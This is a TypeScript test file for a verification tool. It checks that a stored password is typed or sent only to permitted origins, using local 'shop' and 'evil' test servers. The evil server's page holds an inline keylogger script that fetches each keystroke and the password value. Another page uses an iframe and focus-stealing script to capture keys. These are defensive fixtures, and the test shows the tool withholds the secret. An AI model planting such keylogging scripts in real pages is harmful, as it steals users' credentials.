// A secret is typed and sent where it is meant to go, and nowhere else: a shop to sign in to, and another site that would like to have it.
import { createServer, type IncomingMessage } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { singles } from '#core/verification/checks';
import { bind, originsOf, parseVerifyPlan } from '#core/verification/plan';
import { type CheckSecrets, readSecrets } from '#core/verification/secrets';
import { installedChromium } from '../../../../sandbox/browser.ts';
import { realLightpanda } from '../../../../test/support/real-lightpanda.ts';
import { type Browsers, openBrowsers } from '../sessions.ts';
import { samplePlan } from './sampler.ts';
import { look as lookOnce } from './sight.ts';

const PASSWORD = 'open-sesame-7f3a';
const FORM = `<form method=post action=/in><input id=password name=password type=password>
  <input id=day type=date><button id=in>Sign in</button></form>`;
/** What each site was sent. */
let heard: { shop: string[]; evil: string[] };
const taking = (who: 'shop' | 'evil') => async (request: IncomingMessage) => {
  let body = '';
  for await (const chunk of request) body += String(chunk);
  heard[who].push(`${request.url} ${request.headers.authorization ?? ''} ${body}`.trim());
  return body;
};
const shop = createServer(async (request, response) => {
  const body = await taking('shop')(request);
  const { pathname } = new URL(request.url ?? '/', 'http://localhost');
  const page = (): string => {
    if (pathname === '/in')
      return body.includes(PASSWORD) ? `<h1>Hello</h1><p>${body}</p>` : '<h1>Wrong</h1>';
    if (pathname === '/away') return `<a id=go href="${evilUrl}/">Sign in</a>`;
    if (pathname === '/framed') return `<iframe src="${evilUrl}/"></iframe>`;
    if (pathname === '/thief')
      return `${FORM}<iframe id=thief src="${evilUrl}/keys"></iframe><script>password.onfocus = () => thief.focus()</script>`;
    return FORM;
  };
  if (pathname === '/api' && request.headers.authorization !== `Bearer ${PASSWORD}`)
    response.statusCode = 401;
  response.setHeader('content-type', 'text/html').end(`<!doctype html><body>${page()}`);
});
const evil = createServer(async (request, response) => {
  await taking('evil')(request);
  response.setHeader('content-type', 'text/html').end(`<!doctype html><body>${FORM}
    <script>onfocus = () => password.focus(); onkeydown = (e) => fetch('/key?' + e.key); oninput = () => fetch('/typed?' + password.value)</script>`);
});
let shopUrl = '';
let evilUrl = '';
let browsers: Browsers;
const listen = async (server: typeof shop): Promise<string> => {
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
};
beforeAll(async () => {
  [shopUrl, evilUrl] = [await listen(shop), await listen(evil)];
  const lightpandaPath = realLightpanda('that a secret is typed in Chromium alone') ?? undefined;
  browsers = openBrowsers({ chromiumPath: await installedChromium(), lightpandaPath });
});
beforeEach(() => {
  heard = { shop: [], evil: [] };
});
afterAll(async () => {
  await browsers.close();
  for (const server of [shop, evil]) {
    server.closeAllConnections();
    server.close();
  }
});

const secretsFor = (...origins: string[]): CheckSecrets =>
  readSecrets({ SHOP_PASSWORD: { origins } }, { SHOP_PASSWORD: PASSWORD }).secrets;
const fill = { fill: { selector: '#password', value: '{secret.SHOP_PASSWORD}' } };
const signIn = (start: string, ...first: object[]) => ({
  ...{ kind: 'journey', start, timeout_s: 5 },
  steps: [...first, fill, { click: '#in' }, { expect: { text: 'Hello' } }],
});
function planOf(check: object) {
  const parsed = parseVerifyPlan({ v: 1, checks: [{ id: 'it', ...check }], symptom: { checks: ['it'] } });
  const bound = parsed.ok ? bind(parsed.plan, { SHOP: shopUrl, EVIL: evilUrl }) : parsed;
  if (!bound.ok) throw new Error(bound.reason);
  return bound.plan;
}
async function look(check: object, secrets: CheckSecrets = secretsFor(shopUrl), by: Browsers = browsers) {
  const plan = planOf(check);
  const [one] = singles(plan.checks);
  if (!one) throw new Error('no check');
  const { signal } = new AbortController();
  const eyes = { browsers: by, origins: originsOf(plan), datadog: null, secrets, signal, now: Date.now };
  const seen = await lookOnce(one, eyes);
  return { ...seen, reason: seen.reason?.replaceAll(shopUrl, 'SHOP').replaceAll(evilUrl, 'EVIL') ?? null };
}

describe('a journey', () => {
  test('signs in, in Chromium alone, and its words are not kept', async () => {
    expect(await look(signIn('{SHOP}/'))).toMatchObject({
      outcome: 'pass',
      engine: 'chromium',
      overruled: null,
    });
    expect(heard.shop.at(-1)).toBe(`/in  password=${PASSWORD}`);
    const told = await samplePlan({
      ...{ plan: planOf(signIn('{SHOP}/')), which: 'green', keepsWords: true, secrets: secretsFor(shopUrl) },
      patience: { within_s: 60, job_s: 0 },
      browser: { chromiumPath: await installedChromium() },
      onSample: () => undefined,
      signal: AbortSignal.timeout(4000),
    });
    expect(told.pages).toBeUndefined();
    expect(JSON.stringify(told)).not.toContain(PASSWORD);
  });
  test('that was led to another site types nothing there, and that proves nothing', async () => {
    expect(await look(signIn('{SHOP}/away', { click: '#go' }))).toMatchObject({
      outcome: 'inconclusive',
      reason:
        'could not look: the secret SHOP_PASSWORD is not for EVIL: check_secrets of vigil.yml lists where it may go',
    });
    expect(heard.evil.join()).not.toMatch(/typed|key/);
  });
  test('that begins at another site does not either', async () => {
    expect(await look(signIn('{EVIL}/'))).toMatchObject({ outcome: 'inconclusive' });
    expect(heard.evil.join()).not.toMatch(/typed|key/);
  });
  test('types nothing into a frame', async () => {
    expect(await look(signIn('{SHOP}/framed'))).toMatchObject({
      outcome: 'fail',
      reason: 'step 1 (fill): #password is missing from the page itself',
    });
    expect(heard.evil.join()).not.toMatch(/typed|key/);
  });
  test('types nothing when a frame takes the keys', async () => {
    const { outcome } = await look(signIn('{SHOP}/thief'));
    expect([outcome, heard.evil.join()]).toEqual(['fail', expect.not.stringMatching(/typed|key\?/)]);
  });
  test('is not taken where there is no Chromium', async () => {
    const none = openBrowsers({ chromiumPath: null });
    expect(await look(signIn('{SHOP}/'), secretsFor(shopUrl), none)).toMatchObject({
      ...{ outcome: 'inconclusive', reason: 'a secret is typed in Chromium alone, and there is none' },
    });
    expect(heard.shop).toEqual([]);
  });
  test('says what takes no text', async () => {
    const day = { fill: { selector: '#day', value: '{secret.SHOP_PASSWORD}' } };
    const check = { ...signIn('{SHOP}/'), steps: [day, { expect: { text: 'Hello' } }] };
    expect((await look(check)).reason).toBe('step 1 (fill): #day takes no text');
  });
});

describe('a request', () => {
  const api = (place: string) => ({
    ...{ kind: 'http', url: `${place}/api`, headers: { authorization: 'Bearer {secret.SHOP_PASSWORD}' } },
  });
  test('carries it', async () => {
    expect(await look(api('{SHOP}'))).toMatchObject({ outcome: 'pass', engine: 'http' });
    expect(heard.shop).toEqual([`/api Bearer ${PASSWORD}`]);
  });
  test('is not sent to a place that is not listed', async () => {
    expect(await look(api('{EVIL}'))).toMatchObject({
      outcome: 'inconclusive',
      reason: 'the secret SHOP_PASSWORD is not for EVIL: check_secrets of vigil.yml lists where it may go',
    });
    expect(heard.evil).toEqual([]);
  });
  test('is not sent where the job has no value', async () => {
    const { secrets } = readSecrets({ SHOP_PASSWORD: { origins: [shopUrl] } }, null);
    expect((await look(api('{SHOP}'), secrets)).reason).toMatch(/^this job has no value of the secret/);
    expect(heard.shop).toEqual([]);
  });
});
